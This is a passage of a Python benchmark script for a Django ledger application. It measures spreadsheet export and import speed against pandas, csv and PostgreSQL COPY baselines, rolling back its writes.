            seconds, peak, _ = _timed(writer, cells, str(scratch / f"floor.{suffix}"),
                                      repeats=1 if label.startswith("xlsxwriter") else repeats)
        except ImportError as missing:  # xlsxwriter is a dev dependency
            say(f"  floor {label}: not installed ({missing})")
            continue
        if suffix == "xlsx":
            writer([CHECK_ROW], str(scratch / "check.xlsx"))
            verdict = _check_xlsx(scratch / "check.xlsx")
        else:
            verdict = "ok"
        floors[label] = (seconds, peak, suffix, verdict)
    del cells
    spreadsheets_check = scratch / "check-app.xlsx"
    from campaign.spreadsheets import XlsxStream

    stream = XlsxStream("check")
    stream.append(CHECK_ROW)
    stream.save(str(spreadsheets_check))

    say(f"  {'case':<48} {'seconds':>8} {'rows/s':>10} {'+RSS MB':>8}  checks")
    say(f"  {'app: write_ledger (.xlsx)':<48} {app_xlsx[0]:>8.2f} {written / app_xlsx[0]:>10,.0f} "
        f"{app_xlsx[1] / mb:>8.0f}  {_check_xlsx(spreadsheets_check)}")
    say(f"  {'app: write_ledger_csv (.csv)':<48} {app_csv_run[0]:>8.2f} {written / app_csv_run[0]:>10,.0f} "
        f"{app_csv_run[1] / mb:>8.0f}")
    say(f"  {'floor: raw cursor read of the same rows':<48} {read[0]:>8.2f} {read[2] / read[0]:>10,.0f} "
        f"{read[1] / mb:>8.0f}")
    for label, (seconds, peak, _suffix, verdict) in floors.items():
        say(f"  {'floor: ' + label:<48} {seconds:>8.2f} {written / seconds:>10,.0f} {peak / mb:>8.0f}  {verdict}")
    passing = {label: value for label, value in floors.items() if value[3] == "ok" and value[2] == "xlsx"}
    best_label, best = min(passing.items(), key=lambda item: item[1][0])
    ratio = app_xlsx[0] / best[0]
    csv_ratio = app_csv_run[0] / floors["csv module"][0]  # the csv module is always there
    say(f"  xlsx: app / fastest passing writer ({best_label}) = {ratio:.2f}x "
        f"({'meets' if ratio <= 1.5 else 'MISSES'} the target of 1.5x); "
        f"app / (read + that writer) = {app_xlsx[0] / (read[0] + best[0]):.2f}x")
    say(f"  csv:  app / csv module = {csv_ratio:.2f}x; app / (read + csv module) = "
        f"{app_csv_run[0] / (read[0] + floors['csv module'][0]):.2f}x")
    say(f"  files: xlsx {os.path.getsize(scratch / 'app.xlsx') / mb:.1f} MB, "
        f"csv {os.path.getsize(scratch / 'app.csv') / mb:.1f} MB")
    for leftover in scratch.iterdir():
        leftover.unlink()
    scratch.rmdir()
    return None


def _import_file(rows: int, hq: User, export) -> bytes:
    """A file in the template: the first ``rows`` exported problems with the code emptied, so
    each is a new problem."""
    from openpyxl import Workbook, load_workbook

    from campaign.spreadsheets import append_row

    buffer = io.BytesIO()
    export(Problem.objects.visible_to(hq).order_by("-found_at", "-id")[:rows], buffer, language="zh-hans")
    source = load_workbook(io.BytesIO(buffer.getvalue()), read_only=True)
    sheet = source.worksheets[0]
    out = Workbook(write_only=True)
    target = out.create_sheet(sheet.title)
    code_column = None
    for index, values in enumerate(sheet.iter_rows(values_only=True)):
        values = list(values)
        if index == 0:
            code_column = values.index("编号") if "编号" in values else None
        elif code_column is not None:
            values[code_column] = None
        append_row(target, values)  # text stays text, as in the export
    data = io.BytesIO()
    out.save(data)
    return data.getvalue()


class _Rollback(Exception):
    pass


def _import_floor(data: bytes, hq: User) -> int:
    """The least work that writes the same rows: pandas reads the file, the names become ids
    through dicts over each column's distinct values, and the problems and their record
    events (hashed as the ledger hashes them) go in with COPY. Rolled back."""
    import pandas as pd

    from campaign.models import Category, Unit
    from ledger.transfer import columns

    frame = pd.read_excel(io.BytesIO(data), dtype=object)
    names = {columns.COLUMNS[field][1]: field for field in columns.FIELDS}
    frame = frame.rename(columns=names)
    districts = dict(District.objects.values_list("name", "pk"))
    categories = dict(Category.objects.values_list("name_zh", "pk"))
    units = dict(Unit.objects.values_list("name", "pk"))
    points = {p.code: p for p in SamplePoint.objects.all()}
    keyed = {"status": columns.status_index(), "source": columns.source_index(),
             "severity": columns.severity_index()}

    def mapped(field, lookup):
        return frame[field].map({value: lookup(value) for value in frame[field].dropna().unique()})

    for field, index in keyed.items():
        frame[field] = mapped(field, lambda value, index=index: index.get(columns.match_key(value)))
    frame["district_id"] = mapped("district", districts.get)
    frame["category_id"] = mapped("category", categories.get)
    frame["responsible_unit_id"] = mapped("responsible_unit", units.get)
    frame["point"] = mapped("sample_point", points.get)
    count = len(frame)
    now = timezone.now()
    fields = list(Problem._meta.concrete_fields)
    event_columns = ["problem_id", "seq", "action", "from_status", "to_status", "actor_id", "at", "note", "data",
                     "prev_hash", "hash", "hash_scheme"]
    scheme = current_hash_scheme()
    try:
        with transaction.atomic():
            with connection.cursor() as cursor:
                cursor.execute("SELECT nextval(pg_get_serial_sequence('ledger_problem', 'id')) "
                               "FROM generate_series(1, %s)", [count])
                ids = [pk for (pk,) in cursor.fetchall()]
            problems, events = [], []
            for pk, row in zip(ids, frame.itertuples(index=False), strict=True):
                point = row.point if isinstance(row.point, SamplePoint) else None
                found_at = timezone.make_aware(datetime.datetime.combine(row.found_on, datetime.time.min))
                values = {
                    "id": pk, "code": f"F{pk}", "description": row.description, "category_id": row.category_id,
                    "sample_point_id": point.pk if point else None, "district_id": row.district_id,
                    "address": row.address if isinstance(row.address, str) else "",
                    "latitude": point.latitude if point else None, "longitude": point.longitude if point else None,
                    "source": row.source, "source_ref": "", "found_at": found_at, "found_by_id": hq.pk,
                    "severity": row.severity, "status": row.status,
                    "responsible_unit_id": row.responsible_unit_id if row.responsible_unit_id == row.responsible_unit_id
                    else None,
                    "team_id": point.team_id if point else None, "grid_id": point.grid_id if point else None,
                    "road_id": point.road_id if point else None,
                    "deadline": row.deadline if isinstance(row.deadline, datetime.datetime) else None,
                    "closed_at": row.closed_on if isinstance(row.closed_on, datetime.datetime) else None,
                    "rectification_note": row.rectification if isinstance(row.rectification, str) else "",
                    "version": 1, "updated_at": now,
                }
                record = {f.name: encode_field(f.name, values.get(f.attname, f.get_default())) for f in STATE_FIELDS}
                event = types.SimpleNamespace(
                    problem_id=pk, seq=1, action="record", from_status="", to_status=row.status, actor_id=hq.pk,
                    at=found_at, note="", data={"fields": record}, prev_hash="", hash_scheme=scheme)
                event.hash = ProblemEvent.compute_hash(event)
                values["last_event_hash"] = event.hash
                problems.append([values.get(f.attname, f.get_default()) for f in fields])
                events.append([pk, 1, "record", "", row.status, hq.pk, found_at, "",
                               json.dumps(event.data, ensure_ascii=False), "", event.hash, scheme])
            with connection.connection.cursor() as cursor:
                with cursor.copy(f"COPY ledger_problem ({', '.join(f.column for f in fields)}) FROM STDIN") as copy:
                    for values in problems:
                        copy.write_row(values)
                with cursor.copy(f"COPY ledger_problemevent ({', '.join(event_columns)}) FROM STDIN") as copy:
                    for values in events:
                        copy.write_row(values)
            raise _Rollback
    except _Rollback:
        pass
    return count


def _import_app(data: bytes, hq: User, build_plan, write) -> tuple[float, float, int, int]:
    """(check seconds, write seconds, rows written, queries of the write) of the app's import
    of ``data``, rolled back."""
    started = time.perf_counter()
    plan = build_plan(data, user=hq)
    plan_seconds = time.perf_counter() - started
    if plan.errors:
        raise SystemExit(f"Import: the planner refused the exported file ({len(plan.errors)} errors, "
                         f"first: {plan.errors[:2]}).")
    statements = []

    def counted(execute, sql, params, many, context):
        statements.append(1)
        return execute(sql, params, many, context)

    from ledger.transfer.services import import_numbers_reserve

    try:
        with connection.execute_wrapper(counted):
            started = time.perf_counter()
            # As the import job does: the numbers in a short transaction of their own (committed:
            # they are skipped in the benchmark ledger), so that a run beside this one never
            # waits for the counter's row; then the write, rolled back.
            codes = import_numbers_reserve(plan=plan)
            with transaction.atomic():
                count = write(plan=plan, by=hq, origin="bench.xlsx", codes=codes)
                write_seconds = time.perf_counter() - started
                raise _Rollback  # keep the benchmark ledger at its size
    except _Rollback:
        pass
    return plan_seconds, write_seconds, count, len(statements)


IMPORT_TARGET = 2.0  # issue 13: the import within 2x of pandas read + COPY


def bench_import(sizes: list[int], hq: User, repeats: int = 1) -> None:
    _plan_name, build_plan = find_function((("ledger.transfer.planning", "build_plan"),))
    _write_name, write = find_function((("ledger.transfer.services", "ledger_import_write"),))
    _export_name, export = find_function(EXPORTERS)
    if build_plan is None or write is None or export is None:
        say("\nImport: not measurable yet (no build_plan / ledger_import_write / export found).")
        return
    if not is_postgres():
        say("\nImport: the floor (COPY) needs PostgreSQL.")
        return
    import pandas  # noqa: F401  (imported before the clock starts, as the app's modules are)
    say("\nImport beside its floor (pandas read + COPY), written then rolled back; "
        f"best of {repeats}, app and floor alternating")
    say(f"  {'rows':>8} | {'check':>7} | {'write':>7} | {'app':>7} | {'app rows/s':>10} | {'q':>5} | "
        f"{'floor':>7} | {'floor rows/s':>12} | ratio")
    for rows in sizes:
        data = _import_file(rows, hq, export)
        best_app, best_floor = None, None
        for _run in range(repeats):
            started = time.perf_counter()
            _import_floor(data, hq)
            floor = time.perf_counter() - started
            best_floor = floor if best_floor is None else min(best_floor, floor)
            check, written, count, queries = _import_app(data, hq, build_plan, write)
            if best_app is None or check + written < best_app[0] + best_app[1]:
                best_app = (check, written, count, queries)
        check, written, count, queries = best_app
        app = check + written
        ratio = app / best_floor
        flag = f"  over {IMPORT_TARGET:g}x" if ratio > IMPORT_TARGET else ""
        say(f"  {count:>8,} | {check:>6.2f}s | {written:>6.2f}s | {app:>6.2f}s | {count / app:>10,.0f} | "
            f"{queries:>5} | {best_floor:>6.2f}s | {count / best_floor:>12,.0f} | {ratio:.2f}x{flag}")


# --- Main ------------------------------------------------------------------------------------------


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--problems", type=int, default=100_000, help="ledger size to generate up to")
    parser.add_argument("--runs", type=int, default=30, help="timed requests per case (after a warm-up)")
    parser.add_argument("--export-rows", type=int, default=100_000)
    parser.add_argument("--import-rows", default="5000",
                        help="comma-separated sizes of the import beside its floor, e.g. 5000,10000,100000")
    parser.add_argument("--import-runs", type=int, default=1, help="best of this many runs per import size")
    parser.add_argument("--create-db", action="store_true", help="CREATE DATABASE first (PostgreSQL)")
    parser.add_argument("--no-explain", action="store_true", help="do not EXPLAIN ANALYZE slow cases")
    parser.add_argument("--only", choices=("generate", "requests", "export", "import"), action="append",
                        help="run only these parts (repeatable)")
    args = parser.parse_args()
    parts = set(args.only or ("generate", "requests", "export", "import"))

    prepare(args.create_db)
    say(f"database: {connection.vendor} {database_name()}")
    existing = Problem.objects.count()
    if "generate" in parts and existing < args.problems:
        missing = args.problems - existing
        say(f"generating {missing:,} problems (the ledger holds {existing:,}) — benchmark generator, "
            "bypasses the services")
        started = time.perf_counter()
        Generator(random.Random(SEED + existing)).write(missing)
        say(f"generated in {time.perf_counter() - started:.0f} s")
    total = Problem.objects.count()
    say(f"ledger: {total:,} problems, {Problem.objects.open().count():,} open, "
        f"{Problem.objects.overdue().count():,} overdue")

    users = {"HQ": User.objects.get(username="hq"), "district lead": User.objects.get(username="district")}
    if "requests" in parts:
        timings = Timings(args.runs, explain=not args.no_explain)
        settle_as_a_server(users)
        bench_pages(timings, users)
        bench_api(timings, users)
    if "export" in parts:
        path = bench_export(args.export_rows, users["HQ"])
        if path:
            path.unlink(missing_ok=True)
    if "import" in parts:
        bench_import([int(size) for size in args.import_rows.split(",") if size], users["HQ"], args.import_runs)


if __name__ == "__main__":
    main()
